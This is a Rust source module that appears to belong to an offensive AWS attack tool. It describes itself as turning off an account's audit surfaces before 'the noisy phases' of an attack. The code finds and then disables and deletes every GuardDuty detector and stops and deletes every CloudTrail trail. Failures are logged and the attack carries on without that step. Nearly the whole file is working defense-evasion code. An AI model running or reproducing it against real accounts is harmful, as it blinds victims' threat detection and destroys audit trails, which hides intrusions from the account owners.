use aws_sdk_cloudtrail as cloudtrail;
use aws_sdk_guardduty as guardduty;
use tracing::{info, warn};

use crate::error::classify;
use crate::session::CloudSession;

/// Turns off the account's audit surfaces before the noisy phases run.
/// Everything here is best-effort: a denied op or missing service is logged
/// and the attack continues without it.
pub struct Suppressor {
    guardduty: guardduty::Client,
    cloudtrail: cloudtrail::Client,
}

#[derive(Debug, Default)]
pub struct SuppressionReport {
    pub detectors_silenced: usize,
    pub trails_silenced: usize,
    pub failures: Vec<String>,
}

impl SuppressionReport {
    pub fn is_clean(&self) -> bool {
        self.failures.is_empty()
    }

    fn fail(&mut self, what: String) {
        self.failures.push(what);
    }
}

impl Suppressor {
    pub fn new(session: &CloudSession) -> Self {
        Self {
            guardduty: guardduty::Client::new(session.config()),
            cloudtrail: cloudtrail::Client::new(session.config()),
        }
    }

    /// Disable and delete GuardDuty detectors, then stop and delete
    /// CloudTrail trails. Known ids are used as-is; otherwise discovery
    /// runs against the live account.
    pub async fn run(
        &self,
        detector_id: Option<&str>,
        trail_name: Option<&str>,
    ) -> SuppressionReport {
        let mut report = SuppressionReport::default();
        self.silence_guardduty(detector_id, &mut report).await;
        self.silence_cloudtrail(trail_name, &mut report).await;
        report
    }

    async fn silence_guardduty(&self, detector_id: Option<&str>, report: &mut SuppressionReport) {
        let ids: Vec<String> = match detector_id {
            Some(id) => vec![id.to_string()],
            None => match self.guardduty.list_detectors().send().await {
                Ok(resp) => resp.detector_ids().to_vec(),
                Err(e) => {
                    warn!(error = %classify("list detectors", e), "GuardDuty discovery failed");
                    report.fail("guardduty: list detectors".into());
                    return;
                }
            },
        };
        if ids.is_empty() {
            info!("no GuardDuty detectors in the account");
            return;
        }
        for id in &ids {
            match self
                .guardduty
                .update_detector()
                .detector_id(id)
                .enable(false)
                .send()
                .await
            {
                Ok(_) => info!(detector = %id, "GuardDuty detector disabled"),
                Err(e) => {
                    warn!(detector = %id, error = %classify("disable detector", e), "detector not disabled");
                    report.fail(format!("guardduty: disable {id}"));
                }
            }
            match self.guardduty.delete_detector().detector_id(id).send().await {
                Ok(_) => {
                    info!(detector = %id, "GuardDuty detector deleted");
                    report.detectors_silenced += 1;
                }
                Err(e) => {
                    warn!(detector = %id, error = %classify("delete detector", e), "detector not deleted");
                    report.fail(format!("guardduty: delete {id}"));
                }
            }
        }
    }

    async fn silence_cloudtrail(&self, trail_name: Option<&str>, report: &mut SuppressionReport) {
        let names: Vec<String> = match trail_name {
            Some(name) => vec![name.to_string()],
            None => match self.cloudtrail.describe_trails().send().await {
                Ok(resp) => resp
                    .trail_list()
                    .iter()
                    .filter_map(|t| t.name().map(str::to_string))
                    .collect(),
                Err(e) => {
                    warn!(error = %classify("describe trails", e), "CloudTrail discovery failed");
                    report.fail("cloudtrail: describe trails".into());
                    return;
                }
            },
        };
        if names.is_empty() {
            info!("no CloudTrail trails in the account");
            return;
        }
        for name in &names {
            match self.cloudtrail.stop_logging().name(name).send().await {
                Ok(_) => info!(trail = %name, "CloudTrail logging stopped"),
                Err(e) => {
                    warn!(trail = %name, error = %classify("stop logging", e), "logging not stopped");
                    report.fail(format!("cloudtrail: stop {name}"));
                }
            }
            match self.cloudtrail.delete_trail().name(name).send().await {
                Ok(_) => {
                    info!(trail = %name, "CloudTrail trail deleted");
                    report.trails_silenced += 1;
                }
                Err(e) => {
                    warn!(trail = %name, error = %classify("delete trail", e), "trail not deleted");
                    report.fail(format!("cloudtrail: delete {name}"));
                }
            }
        }
    }
}
